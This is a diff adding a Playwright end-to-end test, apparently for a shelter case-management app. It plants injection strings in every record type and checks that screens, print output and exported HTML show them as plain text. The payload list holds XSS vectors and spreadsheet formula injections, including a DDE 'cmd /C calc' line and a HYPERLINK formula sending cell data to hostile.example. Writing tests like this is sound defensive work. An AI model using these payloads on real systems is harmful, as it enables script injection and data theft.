@@ -1,0 +1,233 @@
+import { randomUUID } from 'node:crypto'
+import { readFile } from 'node:fs/promises'
+import type { Page } from '@playwright/test'
+import { put, type Desk } from '#apps/cli/client.ts'
+import { shapes } from '#house/gather.ts'
+import { codedOf } from '#house/well-formed.ts'
+import { addresses, to } from './addresses.ts'
+import { quickCentre } from './centre.ts'
+import { filledSealed } from './filled.ts'
+import { expect, test } from './story.ts'
+import { atWork, press, saved, signIn } from './worker.ts'
+import { words } from './words.ts'
+
+/** A text that is a program for some reader: a browser, a spreadsheet, our own sentences, the eye. `n` tells one from another. */
+const hostile: readonly ((n: number) => string)[] = [
+  (n) => `<img src="/hostile-${n}" onerror="hostile(${n})">`,
+  (n) => `"><script src="/hostile-${n}.js"></script><b data-hostile>${n}</b>`,
+  (n) => `</title></textarea><svg onload=hostile(${n})>`,
+  (n) => `javascript:hostile(${n})`,
+  (n) => `{x, select, other {${n}}} {count, plural, one {#}} '{`,
+  (n) => `=HYPERLINK("http://hostile.example/?"&A1,"${n}")`,
+  (n) => `+cmd|' /C calc'!A${n}`,
+  (n) => `-2+3+${n}`,
+  (n) => `@SUM(${n},1)*cmd`,
+  (n) => `\t=1+${n}`,
+  (n) => `\r=1+${n}`,
+  (n) => `\u202Eelitsoh${n}\u2066\u200B\u200D\uFEFF`,
+  (n) => `nothing\0behind${n}`,
+  (n) => `${n}${'Щ'.repeat(180)}`,
+  (n) => `' onmouseover='hostile(${n})' style='position:fixed;inset:0`,
+  (n) => `data:text/html,<script>hostile(${n})</script>`,
+]
+
+const today = (days = 0): string => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10)
+
+/** Coded parts that say more than the least, so that the sealed text beside them is shown. */
+function coded(room: string, bed: string, child: string, consent: string): Readonly<Record<string, Record<string, unknown>>> {
+  const told = { recipient: 'police', purpose: 'order', fields: ['name', 'story'] }
+  return {
+    'shelter/room': { beds: [bed] },
+    'shelter/stay': { room, beds: [bed], since: today(-3), from: today(-3), women: 1, state: 'staying' },
+    'children/child': { number: 1, withHer: true },
+    'children/collector': { children: [child], reason: 'court' },
+    'consent/consent': { ...told, state: 'given', from: today(-1), until: today(20), form: 'spoken' },
+    'consent/disclosure': { ...told, consent, fields: ['name'], at: new Date().toISOString(), way: 'told' },
+    'cases/closing': { deed: 'reopened', again: 'other', on: today() },
+    'follow-up/plan': { state: 'declined', exitOn: today(-10) },
+    'obstacles/refusal': { what: ['sent_away'] },
+  }
+}
+
+/** What the page may not hold, whatever was written in the records. */
+async function wrongOn(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const found = [
+      ...document.querySelectorAll(
+        '[onerror],[onload],[onmouseover],[onclick],[data-hostile],[src*=hostile],[href*=hostile],iframe,object,embed,base,svg[onload]',
+      ),
+    ].map((each) => each.outerHTML.slice(0, 160))
+    for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href], area[href]')) {
+      const { protocol, origin } = new URL(link.href)
+      if (origin !== location.origin && !/^tel:[+\d*#]+$/.test(link.href)) found.push(`leads to ${protocol} ${link.href.slice(0, 80)}`)
+    }
+    // a word without an end does not push the page apart
+    const over = document.documentElement.scrollWidth - innerWidth
+    if (over > 1) found.push(`wider than the window by ${over}`)
+    for (const one of document.querySelectorAll('[style]'))
+      if ((one as HTMLElement).style.position === 'fixed' && one.textContent?.includes('hostile')) found.push('is laid over the page')
+    return found
+  })
+}
+
+declare global {
+  var hostile: (n: unknown) => void
+}
+
+test('whatever is written in a record is text: on every screen, on paper, in a file', async ({ house, desk }) => {
+  let n = 0
+  const planted: string[] = []
+  const text = (most: number): string => {
+    n++
+    const one = hostile[n % hostile.length]!(n).slice(0, most)
+    planted.push(one)
+    return one
+  }
+  const began = performance.now()
+  const lap = (what: string) => console.log(what, Math.round(performance.now() - began))
+  const [name, head, title] = [text(200), text(120), hostile[0]!(0).slice(0, 40)]
+  const centre = await quickCentre(house, { centre: name, display: title, head })
+  const [child, consent, room, bed, caseId] = [randomUUID(), randomUUID(), randomUUID(), randomUUID(), randomUUID()]
+  const ids: Readonly<Record<string, string>> = {
+    'cases/case': caseId,
+    'children/child': child,
+    'consent/consent': consent,
+    'shelter/room': room,
+  }
+  const others: Desk[] = []
+  for (const role of ['psychologist', 'lawyer', 'medic'] as const) others.push(await centre.hire(role, text(120)))
+  const first = ['cases/case', 'cases/card', 'shelter/room', 'children/child', 'consent/consent']
+  const all = (await shapes()).map(({ it }) => it).sort((a, b) => rank(a.of.kind) - rank(b.of.kind))
+  function rank(kind: string): number {
+    const at = first.indexOf(kind)
+    return at < 0 ? first.length : at
+  }
+  const more = coded(room, bed, child, consent)
+  const left: string[] = []
+  for (const shape of all) {
+    const { kind, circles, of } = shape.of
+    // these have one record for each centre or person, and stand there already
+    if (['centre/profile', 'centre/root', 'people/person'].includes(kind)) continue
+    for (let round = 0; round < 2 && !(round > 0 && kind in ids); round++) {
+      const sealed = filledSealed(shape, text)
+      const id = ids[kind]
+      const record = {
+        ...(id === undefined ? {} : { id }),
+        ...(of === 'case' ? { caseId } : {}),
+        kind,
+        circle: circles[0],
+        coded: { ...codedOf(shape.of), ...more[kind] },
+        sealed,
+      }
+      let why = sealed === null ? 'the shape takes no such text' : ''
+      for (const by of [centre.head, ...others]) {
+        const [answer] = await put(by, [record]).catch((error: Error) => [{ accepted: false as const, refusal: error.message }])
+        why = answer?.accepted === true ? '' : String(answer?.refusal)
+        if (why === '') break
+      }
+      if (why !== '' && round === 0) left.push(`${kind}: ${why}`)
+    }
+  }
+  expect(left, 'kinds that took none').toEqual([])
+
+  lap('planted')
+  const { page } = await desk()
+  const said: string[] = []
+  const asked: string[] = []
+  page.on('dialog', (dialog) => {
+    said.push(`dialog ${dialog.type()}`)
+    void dialog.dismiss()
+  })
+  page.on('request', (request) => {
+    const url = request.url().replace(/^blob:/, '')
+    if (!url.startsWith(`${house.staffUrl}/`) || url.includes('hostile')) asked.push(url)
+  })
+  page.on('console', (message) => {
+    if (message.type() === 'error') said.push(message.text())
+  })
+  await page.addInitScript(() => {
+    const held: string[] = []
+    Object.assign(globalThis, { held, papers: [] as string[], hostile: (which: unknown) => held.push(`ran ${String(which)}`) })
+    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => held.push(`${violatedDirective} ${blockedURI}`))
+    window.print = () => void (globalThis as unknown as { papers: string[] }).papers.push(document.body.lastElementChild?.textContent ?? '')
+  })
+  await page.goto(house.staffUrl)
+  await signIn(page, centre.papersOf(centre.head), true)
+  await atWork(page)
+  await saved(page)
+  // not everybody looks over her shoulder: names are shown
+  lap('signed in')
+  const wrong: string[] = []
+  let shown = ''
+  const look = async (where: string): Promise<void> => {
+    for (const each of await wrongOn(page)) wrong.push(`${where}: ${each}`)
+    if ((await page.title()) !== title) wrong.push(`${where}: another title`)
+    shown += await page.evaluate(
+      () =>
+        document.body.textContent +
+        [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')].map(({ value }) => value).join('\n'),
+    )
+  }
+  const more_ = /^(?:Ещё разделы)$/
+  for (const path of await addresses(page)) {
+    await to(page, path)
+    const tabs = page.getByRole('main').getByRole('tab')
+    const many = await tabs.count()
+    for (let at = 0; at < many; at++) {
+      await tabs.nth(at).click()
+      await look(`${path} ${at + 1}`)
+    }
+    if (many === 0) await look(path)
+    const rest = page.getByRole('main').getByRole('button', { name: more_ })
+    for (let at = 0; (await rest.count()) > 0; at++) {
+      await rest.click()
+      const item = page.getByRole('menuitem').nth(at)
+      if (!(await item.isVisible())) break
+      await item.click()
+      await look(`${path} +${at + 1}`)
+    }
+  }
+  await page.keyboard.press('Escape')
+  lap('walked')
+  // what is looked for is marked in what is found
+  await page.keyboard.press('Control+k')
+  await page.keyboard.type('hostile')
+  await expect(page.getByRole('option').first()).toBeVisible()
+  await look('search')
+  await page.keyboard.press('Escape')
+
+  // on paper: whatever can be printed from these places, and her own pack as paper and file
+  const printHere = async (name: string): Promise<void> => {
+    await page.getByRole('main').getByRole('button', { name, exact: true }).first().click()
+    await page.getByRole('dialog').locator('[data-autofocus]').click()
+  }
+  await to(page, `/pack/${caseId}`)
+  const erasure = words('erasure')
+  await page.getByText(erasure('pack.proof.knows_her'), { exact: true }).click()
+  await page.getByText(erasure('pack.place.with_us'), { exact: true }).click()
+  await printHere(erasure('pack.print'))
+  const download = page.waitForEvent('download')
+  await press(page, erasure('pack.save'))
+  const file = await readFile(await (await download).path(), 'utf8')
+  expect((await download).suggestedFilename()).toMatch(/^\d{4}-\d\d-\d\d\.html$/)
+
+  lap('printed')
+  const held = await page.evaluate(() => (globalThis as unknown as { held: string[] }).held)
+  const papers = await page.evaluate(() => (globalThis as unknown as { papers: string[] }).papers)
+  expect({ wrong, held, asked, said }).toEqual({ wrong: [], held: [], asked: [], said: [] })
+  const words_ = planted.filter((each) => shown.includes(each))
+  console.log(planted.length, words_.length, papers.length, papers.map((p) => p.length), file.length)
+  expect(words_.length, 'hostile texts that she reads as they were written').toBeGreaterThan(60)
+  expect(planted.filter((each) => papers.join().includes(each)).length).toBeGreaterThan(20)
+
+  // the file is opened where nothing of ours protects it
+  const away = await desk()
+  await away.page.addInitScript(() => Object.assign(globalThis, { hostile: (which: unknown) => (document.title = `ran ${String(which)}`) }))
+  away.page.on('request', (request) => asked.push(request.url()))
+  await away.page.setContent(file)
+  expect(await wrongOn(away.page)).toEqual([])
+  expect(await away.page.locator('script').count()).toBe(0)
+  expect(await away.page.title()).toMatch(/^\d{4}-\d\d-\d\d$/)
+  expect(planted.filter((each) => file.includes(each)).length, 'unspoilt in the file: those without signs of HTML').toBeGreaterThan(5)
+  expect(asked).toEqual([])
+})
